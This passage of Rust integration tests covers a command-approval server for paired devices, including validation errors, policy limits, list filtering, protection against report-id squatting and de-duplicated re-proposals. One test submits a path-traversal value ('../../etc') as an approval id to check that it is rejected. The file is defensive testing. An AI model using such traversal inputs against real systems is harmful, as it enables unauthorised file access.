        assert_problem(s, &b, 422, "validation_failed");
        assert_eq!(b["errors"][0]["field"], "decision", "{b}");
    }
    let (s, b) = send(
        server
            .web(Method::POST, &format!("/approvals/{approval_id}/decide"))
            .json(&json!({"decision": "deny", "reason": "x".repeat(1001)})),
    )
    .await;
    assert_problem(s, &b, 422, "validation_failed");
    assert_eq!(b["errors"][0]["field"], "reason", "{b}");
    assert_eq!(approval(&server, &approval_id).await["status"], "pending");
    let (s, b) = decide_as(
        &server,
        &server.admin_token,
        "apr_01J00000000000000000000000",
        "approve",
    )
    .await;
    assert_problem(s, &b, 404, "approval_not_found");
    let (s, b) = decide_as(&server, &server.admin_token, "../../etc", "approve").await;
    assert!(s == 404, "{s} {b}");

    for (policy, field) in [
        (
            json!({"rules": [{"pattern": "f*s", "risk": "GREEN"}]}),
            "rules[0].pattern",
        ),
        (json!({"approval_ttl_secs": 0}), "approval_ttl_secs"),
        (json!({"delivery_ttl_secs": 0}), "delivery_ttl_secs"),
        (
            json!({"execution_timeout_secs": 999_999_999}),
            "execution_timeout_secs",
        ),
    ] {
        let (s, b) = set_policy(&server, &server.admin_token, policy).await;
        assert_problem(s, &b, 422, "validation_failed");
        assert_eq!(b["errors"][0]["field"], field, "{b}");
    }
    let (_, policy) = get_as(&server, &server.admin_token, "/policy").await;
    assert_eq!(policy["approval_ttl_secs"], 300, "{policy}");
}

#[tokio::test]
async fn lists_filter_by_status_and_device_newest_first_with_a_cursor() {
    let server = TestServer::start().await;
    let pc = server.pair_device("pc").await;
    let laptop = server.pair_device("laptop").await;
    let mut ids = Vec::new();
    for (device, kind) in [
        (&pc, "fs.read"),
        (&pc, "shell.exec"),
        (&laptop, "fs.read"),
        (&laptop, "email.send"),
    ] {
        let body = proposal(device, kind, json!({}), "s-list");
        propose(&server, &body).await;
        ids.push(s_owned(&body["command_id"]));
    }
    let list = |query: &str| {
        let query = query.to_owned();
        let server = &server;
        async move {
            let (s, b) = get_as(server, &server.admin_token, &format!("/commands{query}")).await;
            assert_eq!(s, 200, "{b}");
            let ids: Vec<String> = b["commands"]
                .as_array()
                .expect("list")
                .iter()
                .map(|c| s_owned(&c["command_id"]))
                .collect();
            (ids, b["next_cursor"].clone())
        }
    };
    let (all, _) = list("").await;
    assert_eq!(
        all,
        ids.iter().rev().cloned().collect::<Vec<_>>(),
        "newest first"
    );
    let (pending, _) = list("?status=pending_approval").await;
    assert_eq!(pending, [ids[3].clone(), ids[1].clone()]);
    let (on_pc, _) = list(&format!("?device_id={}", pc.id)).await;
    assert_eq!(on_pc, [ids[1].clone(), ids[0].clone()]);
    let (both, _) = list(&format!("?device_id={}&status=queued", laptop.id)).await;
    assert_eq!(both, [ids[2].clone()]);
    let (page1, cursor) = list("?limit=3").await;
    assert_eq!(page1.len(), 3);
    let (page2, end) = list(&format!("?limit=3&cursor={}", st(&cursor))).await;
    assert_eq!(page2, [ids[0].clone()]);
    assert!(end.is_null(), "{end}");

    let (_, approvals) = get_as(&server, &server.admin_token, "/approvals?status=pending").await;
    let listed: Vec<&str> = approvals["approvals"]
        .as_array()
        .expect("list")
        .iter()
        .map(|a| st(&a["command_id"]))
        .collect();
    assert_eq!(listed, [ids[3].as_str(), ids[1].as_str()], "{approvals}");
    let (_, none) = get_as(&server, &server.admin_token, "/approvals?status=approved").await;
    assert_eq!(none["approvals"], json!([]));
}

/// The server publishes each transition under a report id derived from the command id, and
/// report ids are unique per session. A device must not be able to take such an id first (for
/// example another device of the tenant, before the command is proposed): the server's ask for
/// approval would then be dropped as a duplicate and the stream would show the device's report
/// in its place.
#[tokio::test]
async fn devices_cannot_squat_the_ids_of_the_servers_status_reports() {
    let server = TestServer::start().await;
    let target = server.pair_device("target").await;
    let squatter = server.pair_device("squatter").await;
    let cid = new_id("squatted");
    let mut fake = report("s-squat", &format!("srv_{cid}_pending_approval_0"));
    fake["meta"]["approval_level"] = json!("green");
    fake["meta"]["causality"] =
        json!({"correlation_id": "x", "command_id": cid, "type": "command.pending_approval"});
    let r = server
        .device(Method::POST, &squatter, "/reports")
        .json(&json!({"reports": [fake]}))
        .send()
        .await
        .expect("push");
    let (s, b) = status_json(r).await;
    assert_problem(s, &b, 422, "validation_failed");
    assert_eq!(b["errors"][0]["field"], "reports[0].meta.report_id", "{b}");

    let mut body = proposal(&target, "shell.exec", json!({"cmd": "x"}), "s-squat");
    body["command_id"] = json!(cid);
    let answer = propose(&server, &body).await;
    let mut stream = server.subscribe("s-squat", Some(0)).await;
    let asked = status_reports(&mut stream, &cid, 1).await.remove(0);
    assert_eq!(asked["meta"]["approval_level"], "red", "{asked}");
    assert_eq!(
        asked["meta"]["causality"]["ask_id"], answer["approval_id"],
        "{asked}"
    );
    assert_eq!(asked["ask"][0]["severity"], "red", "{asked}");
}

/// A double click on "ask again" must not put the same risky command up for approval twice
/// (approving both would run it twice): an ended command has at most one re-proposal.
#[tokio::test]
async fn reproposing_twice_asks_once() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let operator = server.new_member(ORG, "rex@nexus.test", "operator").await;
    let body = proposal(&device, "fs.delete", json!({"path": "/tmp/x"}), "s-again");
    let answer = propose(&server, &body).await;
    let old = s_owned(&body["command_id"]);
    let (s, _) = decide_as(&server, &operator.token, st(&answer["approval_id"]), "deny").await;
    assert_eq!(s, 202);

    let repropose = || send(server.web(Method::POST, &format!("/commands/{old}/repropose")));
    let (first, second) = tokio::join!(repropose(), repropose());
    assert_eq!(first.0, 202, "{first:?}");
    assert_eq!(second.0, 202, "{second:?}");
    assert_eq!(first.1, second.1, "both clicks get the same re-proposal");
    let third = repropose().await;
    assert_eq!(third, first);
    let (_, pending) = get_as(&server, &server.admin_token, "/approvals?status=pending").await;
    assert_eq!(
        pending["approvals"].as_array().expect("list").len(),
        1,
        "{pending}"
    );
    let (_, list) = get_as(&server, &server.admin_token, "/commands").await;
    let replacing = list["commands"]
        .as_array()
        .expect("list")
        .iter()
        .filter(|c| c["replaces"] == old.as_str())
        .count();
    assert_eq!(replacing, 1, "{list}");
    // A colleague asking again gets the same re-proposal, not a second one.
    let (s, b) = send(server.as_user(
        &operator.token,
        Method::POST,
        &format!("/commands/{old}/repropose"),
    ))
    .await;
    assert_eq!((s, &b), (202, &first.1));
    let (_, list) = get_as(&server, &server.admin_token, "/commands").await;
    assert_eq!(
        list["commands"].as_array().expect("list").len(),
        2,
        "{list}"
    );
}

#[tokio::test]
async fn commands_of_a_deleted_device_cannot_be_approved() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let body = proposal(&device, "shell.exec", json!({"cmd": "x"}), "s-gone");
    let answer = propose(&server, &body).await;
    let approval_id = s_owned(&answer["approval_id"]);
    let r = server
        .web(Method::DELETE, &format!("/devices/{}", device.id))
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), 204);
    let (s, b) = decide_as(&server, &server.admin_token, &approval_id, "approve").await;
    assert_problem(s, &b, 409, "device_gone");
    assert_eq!(approval(&server, &approval_id).await["status"], "pending");
    let (s, b) = decide_as(&server, &server.admin_token, &approval_id, "deny").await;
    assert_eq!(s, 202, "{b}");
    let (s, b) = propose_as(
        &server,
        &server.admin_token,
        &proposal(&device, "fs.read", json!({}), "s-gone"),
    )
    .await;
    assert_problem(s, &b, 404, "device_not_found");
    let (s, b) = send(server.web(
        Method::POST,
        &format!("/commands/{}/repropose", st(&body["command_id"])),
    ))
    .await;
    assert_problem(s, &b, 404, "device_not_found");
}
